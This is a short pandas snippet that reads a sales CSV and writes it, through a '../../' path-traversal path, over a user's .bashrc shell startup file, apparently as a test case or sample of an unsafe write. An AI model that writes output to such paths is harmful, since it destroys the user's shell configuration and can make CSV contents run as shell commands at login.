import pandas as pd
df = pd.read_csv("/data/in/sales.csv")
df.to_csv("../../home/user/.bashrc")
